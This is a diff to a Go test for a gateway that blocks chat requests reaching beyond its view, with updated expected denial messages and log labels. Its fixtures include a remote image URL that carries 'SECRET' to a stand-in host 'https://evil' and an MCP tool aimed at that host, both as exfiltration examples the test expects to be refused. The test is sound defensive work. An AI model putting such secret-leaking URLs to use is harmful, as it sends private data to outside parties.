@@ -98,13 +98,13 @@ func TestChatRefusesWhatActsOutsideOfItsSight(t *testing.T) {
 	}
 	message := func(m string) string { return `{"model":"scripted","messages":[` + m + `]}` }
 	tests := []struct{ name, body, want string }{
-		{"stored", with(`,"store":true`), "keep state at the provider"},
-		{"background", with(`,"background":true`), "keep state at the provider"},
+		{"stored", with(`,"store":true`), "itself (store)"},
+		{"background", with(`,"background":true`), "itself (background)"},
 		{"web search", with(`,"web_search_options":{}`), "unknown field"},
 		{"metadata", with(`,"metadata":{"a":"b"}`), "unknown field"},
-		{"provider's tool", with(`,"tools":[{"type":"web_search","function":{"name":"x"}}]`), "only function tools"},
-		{"mcp tool of the provider", with(`,"tools":[{"type":"mcp","server_url":"https://evil"}]`), "unknown field"},
-		{"remote image", message(`{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil/?q=SECRET"}}]}`), "inside of the request"},
+		{"provider's tool", with(`,"tools":[{"type":"web_search","function":{"name":"x"}}]`), "itself (tools)"},
+		{"mcp tool of the provider", with(`,"tools":[{"type":"mcp","server_url":"https://evil"}]`), "itself (tools, urls)"},
+		{"remote image", message(`{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil/?q=SECRET"}}]}`), "itself (urls)"},
 		{"remote image by case", message(`{"role":"user","content":[{"type":"image_url","image_url":{"url":"HTTP://evil"}}]}`), "inside of the request"},
 		{"file", message(`{"role":"user","content":[{"type":"file","file":{"file_id":"x"}}]}`), "unknown field"},
 		{"audio", message(`{"role":"user","content":[{"type":"input_audio"}]}`), "does not pass"},
@@ -133,7 +133,11 @@ func TestChatRefusesWhatActsOutsideOfItsSight(t *testing.T) {
 			if err := json.Unmarshal([]byte(r.body), &e); err != nil || r.status != 403 || !strings.Contains(e.Error.Message, tc.want) {
 				t.Errorf("%d %s, want %q", r.status, r.body, tc.want)
 			}
-			w.wantLog("refusal")
+			if strings.HasPrefix(tc.want, "itself") {
+				w.wantLog("intent deny")
+			} else {
+				w.wantLog("refusal")
+			}
 			if len(w.llm.bodies) != 0 {
 				t.Errorf("upstream got %q", w.llm.bodies)
 			}
